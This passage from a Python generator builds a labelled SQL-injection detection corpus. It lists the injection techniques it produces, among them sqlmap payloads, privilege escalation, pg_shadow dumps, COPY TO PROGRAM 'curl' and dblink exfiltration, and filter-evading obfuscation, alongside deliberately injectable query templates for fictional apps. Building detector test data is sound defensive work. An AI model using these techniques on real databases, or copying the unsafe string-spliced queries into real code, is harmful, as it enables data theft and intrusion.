#!/usr/bin/env python3
"""Generator for the twenty-first held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_twentyfirst.py [OUTPUT]      # default: twentyfirst.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (SlotCorpus,
as in make_ninth.py to make_twentieth.py); rows whose text occurs in any
earlier corpus (dev to twentieth) are skipped.  2,814 rows: 1,316 attacks
(46.8 %) and 1,498 benign; ids f21-NNNNNN, split "twentyfirst".  The
per-family counts are corpus_kit's targets.  Written to look like dev.jsonl
itself as closely as possible, with templates, payload lists and benign
generators new for this file:

* 88 application templates (`t21_<producer>_*`) on tables none of the
  earlier corpora use, in fifteen domains (a tram museum, a fountain-pen
  clinic, a sea-kayak centre, a zipline park, a lifeboat station, an
  arboretum, a triathlon club, a lapidary workshop, a busking-permit
  office, ghost tours, a laser-tag arena, a judo club, a Viking
  re-enactment society, trophy engravers and a BMX track), each the SQL
  text one producer sends after splicing a request parameter into it: Tcl
  pgtcl pg_exec, Groovy Sql.rows(String) built with +, Crystal crystal-pg,
  Nim db_postgres, Dart package:postgres, Zig pg.zig with allocPrint,
  Erlang epgsql:squery, Elixir raw Postgrex.query!, GnuCOBOL with ocesql
  (upper-case SQL), ABAP ADBC with CONCATENATE, Racket db string-append,
  Common Lisp Postmodern with format, Budibase JavaScript queries,
  Directus custom endpoints (database.raw), ToolJet {{ }} queries,
  Windmill scripts, ColdFusion cfquery (#url.x# numbers and ORDER BY,
  PreserveSingleQuotes), Google Apps Script Jdbc, LibreOffice Basic,
  Lazarus SQLdb, D dpq2, V, Gleam, Ada GNATCOLL, F# sprintf into Npgsql,
  Pharo P3, PL/Python plpy.execute and PL/Perl spi_exec_query inside the
  shop's own functions, MATLAB Database Toolbox and SAS pass-through --
  other parameters stay bound as $n.  Every template is a single statement
  in the shapes of dev's application templates: login checks (name and
  password hash, PIN, crypt()), lookups by id, LIKE / ILIKE searches
  (prefix, infix), a case-insensitive ~* match, ORDER BY column and ASC /
  DESC from input, INSERT ... VALUES (RETURNING), UPDATE ... SET
  (RETURNING), DELETE by id or token, IN lists, IN (subquery), a JOIN,
  jsonb @> '...'::jsonb and ->> '<key>', LIMIT / OFFSET pages,
  lower(email) = lower('...'), reset tokens with now() + interval '<input>',
  ::date and BETWEEN ranges, GROUP BY / HAVING, to_tsvector @@
  plainto_tsquery, EXISTS (...), '...' = ANY(tags), a CTE, E'' notes,
  $t21$...$t21$ literals (a plate text, a ts_headline query) and a "table"
  preview.  Four templates replay a value the application stored earlier
  (second-order: a pager number, a performer, a judo licence, a club);
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its payload catalogue with dev's mix of DBMSes: for each
  request a family draws either PostgreSQL's and the generic tests (AND /
  OR boolean-based blind with and without comment, NOT and subquery forms,
  AND / OR (CAST), HAVING, Parameter replace with original value, DUAL,
  CASE and GENERATE_SERIES, ORDER BY (original value, GENERATE_SERIES),
  stacked queries; > 8.1 AND / OR time with and without comment, heavy
  query, Parameter replace, ORDER BY / GROUP BY with sleep and heavy
  query; AND / OR error-based, Parameter replace, ORDER BY (with and
  without GENERATE_SERIES); > 8.1, heavy-query and < 8.2 Glibc stacked
  queries with and without comment; generic and PostgreSQL inline
  queries), or -- about a third of boolean, two thirds of time and error,
  over half of stacked requests, as in dev -- the tests of another DBMS:
  MySQL (MAKE_SET, ELT, EXTRACTVALUE, UPDATEXML, RLIKE, bool*int, query
  SLEEP, BENCHMARK, heavy query, FLOOR, EXP, BIGINT UNSIGNED, GTID_SUBSET,
  JSON_KEYS, '#' comments, hex delimiters), Oracle (DBMS_PIPE,
  DBMS_LOCK, USER_LOCK, DBMS_SESSION, ALL_USERS heavy query, XMLType,
  UTL_INADDR, CTXSYS.DRITHSX.SN, DBMS_UTILITY), Microsoft SQL Server
  (WAITFOR DELAY, DECLARE @x, sysusers heavy query, IN / CONVERT / CONCAT
  errors, EXEC stacking), HSQLDB, IBM DB2, SQLite, Firebird, Informix, SAP
  MaxDB, Microsoft Access, ClickHouse, H2, InterSystems Cache, CUBRID,
  Virtuoso, MonetDB, Vertica, Presto and SAP HANA; vector requests read
  dev's simple conditions (LENGTH(current_database()) > n, the pg_tables
  count), bisection steps over sqlmap's PostgreSQL enumeration (banner,
  users, password hashes, privileges, roles, schemas, databases, tables,
  columns, counts, dumps of this file's tables) or the DBMS's own
  spelling (ORD(MID(...)), ASCII(SUBSTRC(...)), UNICODE(SUBSTRING(...)));
  delimiters are quoted in most requests and CHR()-built in the rest;
  variants are tagged :payload or :vector as in dev.  Boundaries are
  corpus_kit's, and for about one request in seven dev's others too:
  ') AS xxxx WHERE n=n, ' WHERE n=n, '||(SELECT 'xxxx' FROM DUAL WHERE n=n
  ...)||', the same without FROM DUAL, '+(SELECT ...)+' and ' IN BOOLEAN
  MODE); comments are --, -- -, -- and four letters, --+ and '#'.  UNION
  requests have 1 to 50 columns (NULL, [RANDNUM], [CHAR], custom ranges,
  MySQL's CONCAT(0x...) form) with ORDER BY probing; takeover steps
  (lo_import / lo_get, lo_create, pg_largeobject, lo_export, COPY ... FROM
  PROGRAM and its output table, a sys_eval UDF); about one request in
  sixteen goes through tamper chains new here (space2dash,
  randomcomments, uppercase, lowercase, bluecoat, informationschemacomment,
  between, multiplespaces).  The hand families are PostgreSQL techniques
  written for this file in dev's manner and aimed at the slot they land
  in: tautologies (1=1, n=n, 'w'='w', <>, >=, ||, IS NOT DISTINCT FROM,
  (true AND true), && arrays, int4range @>, position, greatest, %,
  current_date, nullif, chr(), 'yes'::boolean, NOT IN, ILIKE, jsonb @>,
  EXISTS pg_class, BETWEEN, IS NOT NULL, char_length); probes by
  octet_length, sha256 and md5 digits, substring, ascii, ILIKE, ~*, strpos,
  right, char_length BETWEEN, to_hex, overlay, position, initcap, and
  rolsuper, pg_has_role, is_superuser, dblink presence, server_version_num
  and CASE checks; error leaks through query_to_xml(...)::text::int and
  casts to smallint / float8 / inet / macaddr / date / boolean / oid /
  regtype / bit / to_number / xmlparse / make_date / json; time by
  pg_sleep_until, pg_sleep_for, ::text, IN (SELECT ...), CASE, coalesce,
  md5 over generate_series, pg_advisory_lock; UNION ALL / DISTINCT /
  VALUES / TABLE / (... LIMIT 1 OFFSET n) / ::text / mixed-case arms over
  pg_authid, pg_settings, pg_user_mappings, pg_hba_file_rules, pg_proc,
  information_schema.tables, pg_available_extensions, pg_user and the loot
  tables; stacked DISABLE TRIGGER ALL, TRUNCATE CASCADE, DELETE RETURNING,
  INSERT ... SELECT FROM pg_shadow, CREATE ROLE BYPASSRLS, ALTER ROLE
  CREATEROLE, OWNER TO, REVOKE, GRANT pg_read_server_files, DROP DATABASE,
  pg_terminate_backend, LOCK TABLE, CREATE RULE ... DO INSTEAD NOTHING,
  DISABLE ROW LEVEL SECURITY, session_replication_role, set_config, CREATE
  TABLE AS pg_shadow, ALTER DEFAULT PRIVILEGES, CREATE POLICY;
  pg_read_binary_file, pg_read_file(missing_ok), COPY ... TO PROGRAM
  'curl', COPY FROM PROGRAM, lo_from_bytea / lo_export, lo_get(lo_import),
  dblink() and dblink_exec exfiltration, pg_ls_logdir / pg_ls_waldir,
  pg_current_logfile, CREATE SERVER ... postgres_fdw, ALTER SYSTEM SET
  archive_command + pg_reload_conf; DO blocks that EXECUTE format('%s'),
  concat_ws, chr() arrays, hex bytea, upper(), a loop dropping every table,
  dblink_exec, RAISE EXCEPTION with loot, CREATE PROCEDURE + CALL, SECURITY
  DEFINER and LANGUAGE sql functions; dollar tags new for this file
  ($y21$, $b$, $ø1$, $q_q$, $w21$, $Zz$, $c$, $x21$, $blk$, $d21$, $Ж2$,
  $go$, $ñ1$, $u_u$, $BODY21$, $p$) and guessed tags ($t21$, $t$, $$,
  $text$, $body$, $str$, $_$, $x$); E'\\uXXXX', E'\\xHH', short octal,
  E'\\\\' and U&'!XXXX' UESCAPE '!'.  A hand-written payload is redrawn
  (up to seven times) while the statement it makes would not get through
  a cheap lexer check (balanced brackets, terminated literals and
  comments, no stray word after a literal, no second WHERE), as dev's
  nearly all parse; a sqlmap request likewise, but kept anyway once in ten
  draws, so that the share of attacks PostgreSQL parses is dev's.  Tabs
  and line feeds outside literals become single spaces outside the
  whitespace-obfuscation rows, as in dev.  Comment truncation uses dev's
  spellings (--, -- , -- -, --+, /*, ;--, ; --, -- and a word, /**/--, #).
  Obfuscation reshapes payloads outside their literals: alternating,
  last-letter-upper, consonant-upper, random, swapped and two-letter-upper
  case; tab, LF, CR LF, CR, form-feed and multi-space runs; comments such
  as /**/, /*21*/, /*!*/, /*+*/, /*/**/*/, /**//**/, /*\\t*/ (in some rows
  splitting a keyword); and no spaces;
* benign rows from new input pools (apostrophe names, SQL-looking business
  names, URLs and e-mails, JSON, long notes, Unicode from Arabic, Hebrew
  and Greek to Tamil incl. RLO and RLM marks, ZWJ, emoji, prime and
  saltillo look-alikes, whitespace incl. hair and em spaces, numbers as
  strings, punctuation, formatted codes, and typed values for the typed
  slots: dates, timestamps, intervals, hex tokens, e-mails, JSON documents
  and JSON keys), attack strings escaped correctly for their slot
  (`escaped_attack_string`, including the modifier prime, the prime, the
  saltillo, the fullwidth quotation mark, the backtick, %27, &#39; and
  \\u0027 spelled as text), new complex generators (`cx21_*`: Crystal Avram,
  Grails GORM, Directus / knex, F# and Racket output; text, JSON, numeric
  and date built-ins; leading report comments, Rails-style marginalia and
  trailing comments; weekly CTEs, ranking and rolling windows; 1=1 and
  OR-chain query builders; alembic / schema_migrations /
  directus_migrations / Liquibase history rows and commented BEGIN ...
  COMMIT migration scripts; UNION ALL reports; multi-row VALUES batches;
  maintenance, transaction control (PREPARE TRANSACTION, advisory locks),
  COPY, DDL and introspection statements; $n-parameterized DML; trigger,
  SQL and DO bodies; websearch_to_tsquery search) and pg_regress rows
  (`regress21:<file>.sql`): statements taken from PostgreSQL's regression
  suite files strings, arrays, insert_conflict, window, rangetypes,
  returning, tstypes, prepare, inet and groupingsets with the comment lines
  that precede them there, and more in those files' manner with other
  values (a third with such comment lines).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes or a
backslash before the quote into a standard string, quote doubling only
into E'').

Checked once against PostgreSQL 15's raw parser (throwaway cluster on
loopback, each statement sent through psql as `SELECT 1/0;` + statement in
one simple query, so a syntax error is reported before anything runs):
all 1,498 benign rows parse (none needed fixing, none was dropped);
1,026 of the 1,316 attacks parse (78.0 %, dev: 78.2 %), 290 do not (238
sqlmap requests for other DBMSes -- MySQL '#' comments, RLIKE, XOR, IF(),
WAITFOR, BEGIN ... END, hex literals PostgreSQL 15 rejects --, 34 for
PostgreSQL, 18 hand-written, obfuscated, truncation and bypass rows).  No
row holds a NUL byte.  There is no `parses` field, as in the seventh to
twentieth corpora.
"""
import base64, hashlib, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, backslash_quotes, bisection, by_template, chrs, closers,  # noqa: E402
                        dollar_safe, double_quotes, identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q,
                        randnum, rdate, registry, regress_list, render, rstr, rts, rword, sqlmap_delays,
                        text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids  # noqa: E402
from functools import partial  # noqa: E402

SEED = 21212121
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth", "eighteenth", "nineteenth", "twentieth")
PG = "PostgreSQL"


# ---------------------------------------------------------------- application templates
# (name, text, {slot: (type, the template's own values, "typed:KIND" or "",
# cut, cond_cut)}), as in make_twentieth.py: the SQL text one producer
# sends after splicing a request parameter into it (the producer is the
# second part of the name; other parameters stay bound as $n).  Every
# template is a single statement in the shapes dev.jsonl's application
# templates take.  Slot types: q '...', e E'...', d $t21$...$t21$,
# qi "...", n number, list (numbers joined with commas), col (ORDER BY
# expression), dir (ASC/DESC).  cut: what closes the slot's brackets when
# a breakout must close more than the innermost ones; cond_cut: what closes
# it before a condition can be appended.
def S(typ, vals, knd="", cut=None, cond_cut=None):
    return (typ, vals, "typed:" + knd if knd else "", cut, cond_cut)


T = [
 # tram museum -- Tcl pgtcl pg_exec $conn "... $v ..." and Groovy groovy.sql.Sql rows(String) built with +
 ("t21_pgtcl_tram_by_fleet", "SELECT tram_id, builder, built_year, livery FROM heritage_trams WHERE fleet_no = '{a}'",
  {"a": S("q", ["167", "Blackpool 762"])}),
 ("t21_pgtcl_ride_log", "INSERT INTO tram_rides (tram_id, driver, route, run_on) VALUES ({a}, '{b}', '{c}', current_date)",
  {"a": S("n", ["14", "302"]), "b": S("q", ["Harold Pye", "M. Ashworth"]), "c": S("q", ["depot loop", "Town Hall - Pier"])}),
 ("t21_pgtcl_restoration_note", "UPDATE tram_restorations SET stage = '{a}', note = E'{b}' WHERE restoration_id = {c}",
  {"a": S("q", ["bodywork", "truck overhaul"]), "b": S("e", ["new platform boards fitted", "controller rewired"]), "c": S("n", ["28", "5"])}),
 ("t21_groovy_volunteer_login", "SELECT volunteer_id, name, role FROM tram_volunteers WHERE login = '{a}' AND pin_hash = '{b}'",
  {"a": S("q", ["conductor_jo", "h.pye"]), "b": S("q", ["9f86d081884c7d65", "2c26b46b68ffc68f"], "token")}),
 ("t21_groovy_tram_parts", "SELECT part_no, description, qty FROM tram_parts WHERE description ILIKE '%{a}%' ORDER BY part_no LIMIT 50",
  {"a": S("q", ["trolley pole", "bow collector"])}),
 ("t21_groovy_depot_sort", "SELECT tram_id, fleet_no, road_no FROM depot_roads WHERE depot_id = $1 ORDER BY {a} {b}",
  {"a": S("col", ["road_no", "fleet_no", "tram_id"]), "b": S("dir", ["ASC", "DESC"])}),
 # fountain pen clinic -- Crystal crystal-pg db.query_all("..." + v) and Nim db_postgres getAllRows(db, sql("..." & v))
 ("t21_crystal_repair_ticket", "SELECT ticket_id, pen_model, fault, status FROM pen_repairs WHERE ticket_code = '{a}'",
  {"a": S("q", ["FP-2291", "SAC-0045"])}),
 ("t21_crystal_nib_grind", "INSERT INTO nib_grinds (ticket_id, grind, width_mm, requested_by) VALUES ({a}, '{b}', {c}, '{d}') RETURNING grind_id",
  {"a": S("n", ["2291", "45"]), "b": S("q", ["cursive italic", "architect"]), "c": S("n", ["0.6", "1.1"]), "d": S("q", ["Ines", "Mr Hollis"])}),
 ("t21_crystal_ink_search", "SELECT ink_id, maker, colour_name FROM bottled_inks WHERE colour_name ILIKE '{a}%' ORDER BY maker LIMIT 40",
  {"a": S("q", ["oxblood", "blue-black"])}),
 ("t21_nim_customer_email", "SELECT customer_id, name FROM pen_customers WHERE lower(email) = lower('{a}')",
  {"a": S("q", ["nibs@example.org", "A.Hollis@example.com"], "email")}),
 ("t21_nim_repairs_page", "SELECT ticket_id, pen_model, received_on FROM pen_repairs ORDER BY received_on DESC LIMIT {a} OFFSET {b}",
  {"a": S("n", ["25", "50"]), "b": S("n", ["0", "75"])}),
 ("t21_nim_sac_stock", "SELECT sac_size, material, qty FROM ink_sacs WHERE sac_size IN ({a}) AND qty > 0",
  {"a": S("list", ["16, 18", "20"])}),
 # sea kayak centre -- Dart package:postgres conn.execute('... $v ...') and Zig pg.zig with std.fmt.allocPrint
 ("t21_dart_trip_booking", "INSERT INTO kayak_trips (guide_id, launch_site, paddlers, departs_at) VALUES ({a}, '{b}', {c}, '{d}') RETURNING trip_id",
  {"a": S("n", ["7", "31"]), "b": S("q", ["Porthgain slip", "Arisaig beach"]), "c": S("n", ["6", "10"]), "d": S("q", ["2025-07-12 09:30", "2026-05-03 14:00"], "ts")}),
 ("t21_dart_tide_window", "SELECT site_id, hw_at, range_m FROM tide_windows WHERE site_id = {a} AND hw_at::date = '{b}'::date",
  {"a": S("n", ["3", "12"]), "b": S("q", ["2025-08-19", "2026-04-02"], "date")}),
 ("t21_dart_boat_search", "SELECT boat_id, model, length_cm FROM sea_kayaks WHERE model ILIKE '%{a}%' AND length_cm >= {b}",
  {"a": S("q", ["Romany", "Nordkapp"]), "b": S("n", ["480", "520"])}),
 ("t21_zig_paddler_lookup", "SELECT paddler_id, name, bc_award FROM paddlers WHERE paddler_id = {a}",
  {"a": S("n", ["1187", "42"])}),
 ("t21_zig_incident_log", "SELECT incident_id, occurred_at, summary FROM kayak_incidents WHERE occurred_at BETWEEN '{a}' AND '{b}' ORDER BY occurred_at",
  {"a": S("q", ["2025-06-01 00:00", "2024-09-14 08:00"], "ts"), "b": S("q", ["2025-06-30 23:59", "2024-09-21 20:00"], "ts")}),
 ("t21_zig_gear_return", "UPDATE gear_loans SET returned_at = now(), damage = '{a}' WHERE loan_id = {b} RETURNING loan_id, damage",
  {"a": S("q", ["none", "split paddle blade"]), "b": S("n", ["5120", "88"])}),
 # zipline park -- Erlang epgsql:squery(C, "..." ++ V) and Elixir Postgrex.query!(conn, "..." <> v, [])
 ("t21_epgsql_rider_waiver", "SELECT waiver_id, rider_name, signed_at FROM zip_waivers WHERE booking_ref = '{a}'",
  {"a": S("q", ["ZP-55120", "GRP-0091"])}),
 ("t21_epgsql_line_status", "UPDATE zip_lines SET status = '{a}' WHERE line_no = {b}",
  {"a": S("q", ["open", "closed - high wind"]), "b": S("n", ["4", "11"])}),
 ("t21_epgsql_staff_reset", "UPDATE zip_staff SET reset_token = '{a}', reset_expires = now() + interval '{b}' WHERE email = '{c}'",
  {"a": S("q", ["7b2e9c41d0aa4f18", "e3c0d91b77a2f4c5"], "token"), "b": S("q", ["30 minutes", "2 hours"], "interval"),
   "c": S("q", ["marshal@zipworld.example", "k.oyelaran@example.org"], "email")}),
 ("t21_postgrex_session_counts", "SELECT line_no, count(*) FROM zip_rides WHERE ridden_on = '{a}'::date GROUP BY line_no ORDER BY line_no",
  {"a": S("q", ["2025-08-02", "2026-03-29"], "date")}),
 ("t21_postgrex_staff_login", "SELECT staff_id, name, is_supervisor FROM zip_staff WHERE username = '{a}' AND password = crypt('{b}', password)",
  {"a": S("q", ["marshal_kay", "b.osei"]), "b": S("q", ["Tr0lley!line", "harness42"])}),
 ("t21_postgrex_harness_meta", "SELECT harness_id, serial_no FROM harnesses WHERE inspection @> '{a}'::jsonb ORDER BY harness_id",
  {"a": S("q", ["{\"passed\": true}", "{\"inspector\": \"KO\"}"], "json")}),
 # lifeboat station -- GnuCOBOL with ocesql (STRING ... INTO WS-SQL, EXEC SQL PREPARE) and ABAP ADBC cl_sql_statement with CONCATENATE
 ("t21_cobol_crew_pager", "SELECT CREW_ID, CREW_NAME, ROLE_CODE FROM LB_CREW WHERE PAGER_NO = '{a}'",
  {"a": S("q", ["PG-0417", "PG-1122"])}),
 ("t21_cobol_launch_insert", "INSERT INTO LB_LAUNCHES (BOAT_ID, LAUNCHED_AT, TASKED_BY, SERVICE_TYPE) VALUES ({a}, CURRENT_TIMESTAMP, '{b}', '{c}')",
  {"a": S("n", ["2", "1"]), "b": S("q", ["HM COASTGUARD HUMBER", "UK COASTGUARD"]), "c": S("q", ["MEDEVAC", "VESSEL AGROUND"])}),
 ("t21_cobol_fuel_update", "UPDATE LB_BOATS SET FUEL_PCT = {a}, CHECKED_BY = '{b}' WHERE BOAT_ID = {c}",
  {"a": S("n", ["95", "100"]), "b": S("q", ["D MEW", "COXSWAIN"]), "c": S("n", ["2", "1"])}),
 ("t21_abap_launches_range", "SELECT LAUNCH_ID, SERVICE_TYPE, CASUALTIES FROM LB_LAUNCHES WHERE LAUNCHED_AT >= '{a}' AND LAUNCHED_AT < '{b}'",
  {"a": S("q", ["2025-01-01", "2024-07-01"], "date"), "b": S("q", ["2025-04-01", "2024-10-01"], "date")}),
 ("t21_abap_kit_lookup", "SELECT KIT_ID, ITEM, SIZE_CODE FROM LB_KIT WHERE CREW_ID = {a} AND ITEM LIKE '{b}%'",
  {"a": S("n", ["118", "7"]), "b": S("q", ["DRYSUIT", "HELMET"])}),
 ("t21_abap_training_delete", "DELETE FROM LB_TRAINING WHERE SESSION_ID = {a} AND CREW_ID = {b}",
  {"a": S("n", ["3310", "90"]), "b": S("n", ["118", "7"])}),
 # arboretum -- Racket db (query-rows conn (string-append ...)) and Common Lisp Postmodern (query (format nil ...))
 ("t21_racket_specimen", "SELECT specimen_id, genus, species, planted_year FROM tree_specimens WHERE accession_no = '{a}'",
  {"a": S("q", ["1987.0412", "W-2011-77"])}),
 ("t21_racket_genus_search", "SELECT s.specimen_id, s.species, b.bed_name FROM tree_specimens s JOIN beds b ON b.bed_id = s.bed_id WHERE s.genus = '{a}' AND s.species ILIKE '{b}%'",
  {"a": S("q", ["Acer", "Sorbus"]), "b": S("q", ["palm", "aucu"])}),
 ("t21_racket_tag_update", "UPDATE tree_tags SET tag_text = '{a}', replaced_on = current_date WHERE specimen_id = {b} RETURNING tag_id",
  {"a": S("q", ["Acer palmatum 'Osakazuki'", "Quercus robur"]), "b": S("n", ["4410", "16"])}),
 ("t21_postmodern_walks", "SELECT walk_id, title, starts_at FROM guided_walks WHERE starts_at >= '{a}'::date AND places_left > {b} ORDER BY starts_at",
  {"a": S("q", ["2025-10-04", "2026-04-18"], "date"), "b": S("n", ["0", "4"])}),
 ("t21_postmodern_girth_top", "SELECT specimen_id, girth_cm FROM tree_measurements WHERE measured_year = {a} ORDER BY girth_cm {b} LIMIT 20",
  {"a": S("n", ["2024", "2019"]), "b": S("dir", ["DESC", "ASC"])}),
 ("t21_postmodern_notes_fts", "SELECT note_id, headline FROM curator_notes WHERE to_tsvector('english', body) @@ plainto_tsquery('english', '{a}')",
  {"a": S("q", ["honey fungus", "autumn colour"])}),
 # triathlon club -- Budibase JavaScript query strings and Directus custom endpoint database.raw(`...${v}`)
 ("t21_budibase_member_login", "SELECT id, name, membership FROM tri_members WHERE email = '{a}' AND password_hash = '{b}'",
  {"a": S("q", ["swim.bike@example.org", "t1fast@example.com"], "email"), "b": S("q", ["8c6976e5b5410415", "bde8f1c0a7e2c9d4"], "token")}),
 ("t21_budibase_splits", "SELECT race_id, swim_s, t1_s, bike_s, t2_s, run_s FROM race_splits WHERE member_id = {a} ORDER BY race_id DESC",
  {"a": S("n", ["231", "9"])}),
 ("t21_budibase_race_entry", "INSERT INTO race_entries (member_id, race_id, wave, tshirt) VALUES ({a}, {b}, '{c}', '{d}')",
  {"a": S("n", ["231", "9"]), "b": S("n", ["58", "112"]), "c": S("q", ["AG 40-44", "elite"]), "d": S("q", ["M", "XL"])}),
 ("t21_directus_session_tags", "SELECT session_id, title FROM training_sessions WHERE '{a}' = ANY(tags) ORDER BY held_on DESC",
  {"a": S("q", ["open water", "brick"])}),
 ("t21_directus_bike_fit", "SELECT member_id, fit->>'{a}' AS val FROM bike_fits WHERE member_id = {b}",
  {"a": S("q", ["saddle_height_mm", "stack"], "jkey"), "b": S("n", ["231", "9"])}),
 ("t21_directus_run_having", "SELECT member_id, min(run_s) FROM race_splits GROUP BY member_id HAVING min(run_s) < {a}",
  {"a": S("n", ["2400", "1800"])}),
 # lapidary workshop -- ToolJet PostgreSQL queries with {{ }} and Windmill TypeScript scripts with template literals
 ("t21_tooljet_stone_lookup", "SELECT stone_id, species, carat, origin FROM gemstones WHERE lot_code = '{a}'",
  {"a": S("q", ["LOT-7731", "AGT-19"])}),
 ("t21_tooljet_cut_jobs", "SELECT job_id, stone_id, cut_style FROM cutting_jobs WHERE cut_style = '{a}' AND status <> 'done' ORDER BY {b}",
  {"a": S("q", ["cabochon", "brilliant"]), "b": S("col", ["job_id", "stone_id", "due_on desc"])}),
 ("t21_tooljet_stones_in", "SELECT stone_id, species, carat FROM gemstones WHERE stone_id IN ({a})",
  {"a": S("list", ["12, 40, 41", "7"])}),
 ("t21_windmill_polish_log", "INSERT INTO polish_log (job_id, grit, minutes, lapidary) VALUES ({a}, {b}, {c}, '{d}')",
  {"a": S("n", ["902", "16"]), "b": S("n", ["1200", "3000"]), "c": S("n", ["45", "20"]), "d": S("q", ["Rhian", "Tomasz W."])}),
 ("t21_windmill_rough_exists", "SELECT EXISTS (SELECT 1 FROM rough_parcels WHERE parcel_ref = '{a}' AND weight_g > {b})",
  {"a": S("q", ["RP-2025-014", "TUMBLE-3"]), "b": S("n", ["0", "250"])}),
 ("t21_windmill_cert_note", "UPDATE gem_certificates SET remarks = E'{a}' WHERE cert_no = '{b}'",
  {"a": S("e", ["slight inclusion at girdle", "heat treated"]), "b": S("q", ["GC-55102", "GC-0099"])}),
 # busking permits office -- ColdFusion cfquery with #url.x# (numbers, ORDER BY) and PreserveSingleQuotes(), Google Apps Script Jdbc executeQuery("..." + v)
 ("t21_cfml_pitch_by_id", "SELECT pitch_id, street, max_decibels FROM busking_pitches WHERE pitch_id = {a}",
  {"a": S("n", ["17", "204"])}),
 ("t21_cfml_permits_sort", "SELECT permit_no, performer, expires_on FROM busking_permits WHERE borough_id = $1 ORDER BY {a} {b}",
  {"a": S("col", ["expires_on", "performer", "permit_no"]), "b": S("dir", ["ASC", "DESC"])}),
 ("t21_cfml_act_filter", "SELECT permit_no, performer FROM busking_permits WHERE act_type = '{a}' AND borough_id = $1",
  {"a": S("q", ["living statue", "acoustic guitar"])}),
 ("t21_gas_performer_search", "SELECT performer_id, stage_name, act_type FROM performers WHERE stage_name ILIKE '%{a}%' ORDER BY stage_name LIMIT 25",
  {"a": S("q", ["fiddle", "Silver Man"])}),
 ("t21_gas_complaint_insert", "INSERT INTO noise_complaints (pitch_id, reported_at, reporter_email, detail) VALUES ({a}, now(), '{b}', '{c}') RETURNING complaint_id",
  {"a": S("n", ["17", "204"]), "b": S("q", ["flat12@example.org", "cafe.owner@example.com"], "email"), "c": S("q", ["amplifier after 9pm", "bagpipes again"])}),
 ("t21_gas_rota_range", "SELECT slot_id, pitch_id, performer_id FROM pitch_rota WHERE slot_on BETWEEN '{a}' AND '{b}' AND pitch_id = {c}",
  {"a": S("q", ["2025-07-01", "2026-01-05"], "date"), "b": S("q", ["2025-07-07", "2026-01-11"], "date"), "c": S("n", ["17", "204"])}),
 # ghost tours -- LibreOffice Basic Statement.executeQuery("..." & v) and Lazarus SQLdb SQLQuery.SQL.Text := '...' + v
 ("t21_lobasic_tour_bookings", "SELECT booking_id, lead_name, party_size FROM ghost_bookings WHERE tour_date = '{a}' AND route_id = {b}",
  {"a": S("q", ["2025-10-31", "2026-02-13"], "date"), "b": S("n", ["3", "8"])}),
 ("t21_lobasic_guide_login", "SELECT guide_id, stage_name FROM ghost_guides WHERE login = '{a}' AND passcode = '{b}'",
  {"a": S("q", ["grey_lady", "mr.bones"]), "b": S("q", ["Boo!2025", "lantern7"])}),
 ("t21_lobasic_sighting_insert", "INSERT INTO sightings (tour_id, location, description, reported_by) VALUES ({a}, '{b}', '{c}', '{d}')",
  {"a": S("n", ["775", "12"]), "b": S("q", ["Bell Tower stairs", "cellar bar"]), "c": S("q", ["cold spot near the font", "door slammed twice"]), "d": S("q", ["guest", "guide Nell"])}),
 ("t21_lazarus_route_stops", "SELECT stop_no, venue, legend FROM route_stops WHERE route_id IN (SELECT route_id FROM ghost_routes WHERE town = '{a}') ORDER BY stop_no",
  {"a": S("q", ["York", "Edinburgh Old Town"])}),
 ("t21_lazarus_venue_search", "SELECT venue_id, name, haunted_since FROM haunted_venues WHERE name ILIKE '{a}%' AND town = '{b}'",
  {"a": S("q", ["The Golden Fleece", "Mary King"]), "b": S("q", ["York", "Edinburgh"])}),
 ("t21_lazarus_cancel_booking", "DELETE FROM ghost_bookings WHERE booking_ref = '{a}'",
  {"a": S("q", ["c41d0e9a77b2", "0a9b8c7d6e5f"], "token")}),
 # laser tag arena -- D dpq2 conn.exec("..." ~ v) and V db.exec('... ${v} ...')
 ("t21_dpq2_player_stats", "SELECT player_id, tag_hits, tagged_by FROM game_scores WHERE game_id = {a} AND team = '{b}'",
  {"a": S("n", ["44120", "31"]), "b": S("q", ["red", "blue"])}),
 ("t21_dpq2_vest_status", "UPDATE laser_vests SET battery_pct = {a}, status = '{b}' WHERE vest_no = {c}",
  {"a": S("n", ["80", "15"]), "b": S("q", ["charging", "faulty sensor"]), "c": S("n", ["23", "4"])}),
 ("t21_dpq2_leaderboard", "SELECT callsign, sum(points) AS pts FROM game_scores WHERE played_on >= '{a}'::date GROUP BY callsign ORDER BY pts DESC LIMIT {b}",
  {"a": S("q", ["2025-09-01", "2026-01-01"], "date"), "b": S("n", ["10", "25"])}),
 ("t21_vlang_party_booking", "INSERT INTO party_bookings (host_name, kids, cake, booked_for) VALUES ('{a}', {b}, '{c}', '{d}') RETURNING booking_id",
  {"a": S("q", ["Dana Whitfield", "Mo Rahman"]), "b": S("n", ["12", "8"]), "c": S("q", ["chocolate", "none - allergies"]), "d": S("q", ["2025-11-15 13:00", "2026-06-06 10:30"], "ts")}),
 ("t21_vlang_callsign_taken", "SELECT EXISTS (SELECT 1 FROM laser_players WHERE lower(callsign) = lower('{a}'))",
  {"a": S("q", ["Ghost", "NeonNinja"])}),
 ("t21_vlang_arena_events", "SELECT event_id, payload FROM arena_events WHERE payload @> '{a}'::jsonb ORDER BY event_id DESC LIMIT 200",
  {"a": S("q", ["{\"kind\": \"fog_machine\"}", "{\"zone\": 3}"], "json")}),
 # judo club -- Gleam string.concat into pgo.execute and Ada GNATCOLL.SQL Execute (DB, "..." & V)
 ("t21_gleam_judoka_licence", "SELECT judoka_id, name, belt FROM judoka WHERE licence_no = '{a}'",
  {"a": S("q", ["BJA-331207", "JF-0094"])}),
